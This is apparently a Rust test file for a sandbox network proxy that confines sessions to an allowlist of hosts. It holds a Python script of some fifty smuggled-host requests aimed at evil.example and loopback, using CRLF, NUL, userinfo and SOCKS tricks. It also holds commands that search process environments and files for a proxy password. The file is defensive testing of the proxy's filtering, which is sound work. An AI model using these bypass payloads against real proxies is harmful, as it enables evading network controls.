//! The compatibility proxy, for who asks for it: clients that use it, and what tries to make it mean
//! another host than the one it decides on.

use crate::common::place::Place;
use crate::common::world::World;
use crate::common::{must_have, must_have_sandbox, user::users};
use crate::script;
use crate::site::{Site, trusting};

fn with_proxy(place: &Place) {
    place.home_file(".config/claudebox/profiles/default.toml", "network.proxy = true\n");
}

#[test]
fn programs_that_know_of_a_proxy_are_told_of_it_and_of_what_it_refuses() {
    must_have_sandbox();
    must_have(&["curl", "python3", "npm"]);
    let (site, world) = (Site::new(), World::new());
    site.put(&world);
    let lines = r#"
        env | grep -ic '_proxy=' >&2
        curl -sS https://www.example/hello
        curl -sS http://www.example/hello
        curl -sS --proxy socks5h://25.64.0.1:3128 http://www.example/hello
        curl -sS --proxy socks5://25.64.0.1:3128 http://www.example/hello
        python3 -c 'import urllib.request
print(urllib.request.urlopen("https://www.example/hello").read().decode(), end="")'
        rm -rf node_modules; echo '{}' > package.json
        npm install --no-audit --no-fund --fetch-retries=0 --registry=https://npm.example/npm/ thing >&2
        node -e 'console.log(require("thing"))'
        curl -sS http://evil.example/hello
        curl -sS https://evil.example/hello 2>&1 || echo $?"#;
    let expected = format!(
        "{}a thing of npm\nclaudebox: evil.example:80 is not on the list of what this session may \
         reach. The person who started it can allow it, outside: claudebox allow evil.example:80\n\
         curl: (56) CONNECT tunnel failed, response 403\n56\n",
        "hello from www.example\n".repeat(5)
    );
    for user in users() {
        let place = Place::new(user);
        with_proxy(&place);
        let options = trusting(&place, &site);
        let rules = ["www.example:80", "www.example", "npm.example"];
        let output = script(&place, &world, &rules, &options, lines).run().code(0);
        assert_eq!(output.stdout, expected, "{}", output.stderr);
        assert_eq!(world.asked(), ["npm.example:443", "www.example:443", "www.example:80"]);
    }
}

/// The password of the host's own proxy: nothing inside gets it, and it is written nowhere.
#[test]
fn the_password_of_the_hosts_proxy_stays_outside() {
    must_have_sandbox();
    must_have(&["curl"]);
    let (site, world) = (Site::new(), World::new());
    site.put(&world);
    let proxy = format!("http://me:s3cr%65t-w0rd@127.0.0.1:{}", world.port());
    for user in users() {
        let place = Place::new(user);
        let hold = place.project_file("hold", "");
        let lines = "curl -sS http://www.example/hello; env
            cat /proc/[0-9]*/environ /proc/[0-9]*/cmdline 2>/dev/null | tr '\\0' '\\n'
            grep -ra 's3cr' ~ /tmp /run /etc $PWD 2>/dev/null || true
            touch up; while test -e hold; do sleep 0.05; done";
        let run = script(&place, &world, &["www.example:80"], &[], lines);
        let session = run.env("HTTPS_PROXY", &proxy).env("https_proxy", &proxy).start();
        let up = place.project().join("up");
        crate::until("it has looked", || up.exists());
        // While it runs: in no file, and in no command line, which everybody may read.
        let words = "grep -rlaE 's3cr(%65|e)t' \"$1\"; cat /proc/[0-9]*/cmdline | tr '\\0' ' ' |
            grep -aoE '.{9}s3cr(%65|e)t-w0rd'";
        let root = place.root().to_str().unwrap();
        let find = || place.command("sh").args(["-c", words, "sh", root]).run().stdout;
        assert_eq!(find(), "");
        std::fs::remove_file(hold).unwrap();
        let output = session.wait().code(0).says("hello from www.example");
        assert!(!output.stdout.contains("t-w0rd"), "{}", output.stdout);
        let net = place.claudebox(["net"]).run().code(0);
        assert!(net.stdout.contains("www.example") && !net.stdout.contains("t-w0rd"), "{net:?}");
        let explain = place.claudebox(["explain", "--", "true"]).env("HTTPS_PROXY", &proxy);
        let explained = explain.run().code(0);
        assert!(!explained.stdout.contains("t-w0rd"), "{}", explained.stdout);
        // Control: the proxy was told of it, and a file that has it is found.
        let told = "Proxy-Authorization: Basic bWU6czNjcmV0LXcwcmQ=\r\n";
        assert!(world.last().contains(told), "{}", world.last());
        place.project_file("leak", &proxy);
        assert!(find().ends_with("/project/leak\n"));
    }
}

/// Says each of these to the proxy, and prints what it got.
const HOSTILE: &str = r#"
import os, socket, struct
HOST = os.environ["ATTACK_PORT"].encode()
head = b" HTTP/1.1\r\nHost: www.example\r\n\r\n"
name = lambda text: bytes([len(text)]) + text
socks = lambda command, host, port: b"\5\1\0\5" + bytes([command]) + b"\0\3" + name(host) + struct.pack(">H", port)
tries = {
  "userinfo": b"CONNECT www.example:80@evil.example:80" + head,
  "userinfo-2": b"CONNECT www.example@evil.example:80" + head,
  "password": b"CONNECT www.example:x@evil.example:80" + head,
  "crlf": b"CONNECT www.example:80\r\nX: evil.example:80" + head,
  "crlf-2": b"CONNECT evil.example:80\r\n HTTP/1.1\r\nHost: www.example:80" + head,
  "lf": b"CONNECT evil.example:80\nCONNECT www.example:80" + head,
  "tab": b"CONNECT\tevil.example:80" + head,
  "nul": b"CONNECT www.example\0.evil.example:80" + head,
  "percent": b"CONNECT www.example%00.evil.example:80" + head,
  "percent-2": b"CONNECT %65vil.example:80" + head,
  "hash": b"CONNECT evil.example:80#www.example:80" + head,
  "slash": b"CONNECT evil.example/www.example:80" + head,
  "backslash": b"CONNECT evil.example\\www.example:80" + head,
  "two-ports": b"CONNECT www.example:80:81" + head,
  "port-0": b"CONNECT www.example:0" + head,
  "port-wraps": b"CONNECT www.example:65616" + head,
  "port-sign": b"CONNECT www.example:+80" + head,
  "other-port": b"CONNECT www.example:81" + head,
  "two-dots": b"CONNECT www.example..:80" + head,
  "zone": b"CONNECT [fe80::1%25www.example]:80" + head,
  "loopback": b"CONNECT 127.0.0.1:" + HOST + head,
  "short": b"CONNECT 127.1:" + HOST + head,
  "number": b"CONNECT 2130706433:" + HOST + head,
  "hex": b"CONNECT 0x7f.1:" + HOST + head,
  "octal": b"CONNECT 0177.0.0.1:" + HOST + head,
  "mapped": b"CONNECT [::ffff:127.0.0.1]:" + HOST + head,
  "v6": b"CONNECT [::1]:" + HOST + head,
  "unspecified": b"CONNECT 0.0.0.0:" + HOST + head,
  "localhost": b"CONNECT localhost:" + HOST + head,
  "below-localhost": b"CONNECT a.localhost:" + HOST + head,
  "gateway": b"CONNECT 25.64.0.1:3128" + head,
  "url": b"GET http://www.example@evil.example/" + head,
  "url-host": b"GET http://evil.example/" + head,
  "url-back": b"GET http://evil.example\\@www.example/" + head,
  "url-query": b"GET http://evil.example?@www.example/" + head,
  "url-hash": b"GET http://evil.example#@www.example/" + head,
  "url-ftp": b"GET ftp://evil.example/" + head,
  "no-url": b"GET /" + head,
  "host-only": b"GET / HTTP/1.1\r\nHost: evil.example\r\n\r\n",
  "socks4": b"\4\1\0\x50\1\1\1\1\0",
  "socks4a": b"\4\1\0\x50\0\0\0\1\0evil.example\0",
  "socks4a-allowed": b"\4\1\0\x50\0\0\0\1\0www.example\0",
  "socks-bind": socks(2, b"www.example", 80),
  "socks-udp": socks(3, b"www.example", 80),
  "socks-other": socks(1, b"evil.example", 80),
  "socks-nul": socks(1, b"www.example\0.evil.example", 80),
  "socks-address-as-name": socks(1, b"127.0.0.1", int(HOST)),
  "socks-v4": b"\5\1\0\5\1\0\1\x7f\0\0\1" + struct.pack(">H", int(HOST)),
  "socks-v6": b"\5\1\0\5\1\0\4" + bytes(15) + b"\1" + struct.pack(">H", int(HOST)),
  "socks-type": b"\5\1\0\5\1\0\2www.example\0\x50",
  "nothing": b"",
  "allowed": b"CONNECT www.example:80" + head + b"GET /hello HTTP/1.0\r\nHost: www.example\r\n\r\n",
  "allowed-socks": socks(1, b"www.example", 80) + b"GET /hello HTTP/1.0\r\nHost: www.example\r\n\r\n",
  "allowed-url": b"GET http://www.example/hello" + head,
}
for key, said in tries.items():
    stream = socket.create_connection(("25.64.0.1", 3128), 30)
    got = b""
    try:
        stream.sendall(said)
        stream.shutdown(socket.SHUT_WR)
        while more := stream.recv(9999): got += more
    except OSError as error: got += str(error).encode()
    print(key, "GOT" if b"hello from" in got or b"the world" in got or b" 200 " in got[:14] else "failed", got[:60], flush=True)
"#;

#[test]
fn what_is_said_in_two_ways_reaches_nobody() {
    must_have_sandbox();
    must_have(&["python3"]);
    let (site, world) = (Site::new(), World::new());
    site.put(&world);
    for user in users() {
        let place = Place::new(user);
        with_proxy(&place);
        place.project_file("hostile.py", HOSTILE);
        let port = ["--env".to_owned(), format!("ATTACK_PORT={}", world.port())];
        let rules = ["www.example:80"];
        let output = script(&place, &world, &rules, &port, "python3 hostile.py").run().code(0);
        let got: Vec<&str> =
            output.stdout.lines().filter_map(|line| Some(line.split_once(" GOT ")?.0)).collect();
        assert_eq!(got, ["allowed", "allowed-socks", "allowed-url"], "{}", output.stdout);
        assert_eq!(world.count(), ["www.example:80"; 3], "{}", output.stdout);

        // Control: where rules allow it, the same words get through.
        let rules = ["www.example:80", "www.example:81", "evil.example:80"];
        let output = script(&place, &world, &rules, &port, "python3 hostile.py").run().code(0);
        let got: Vec<&str> =
            output.stdout.lines().filter_map(|line| Some(line.split_once(" GOT ")?.0)).collect();
        for name in ["other-port", "url-host", "socks-other"] {
            assert!(got.contains(&name), "{name}: {}", output.stdout);
        }
        world.count();
    }
}
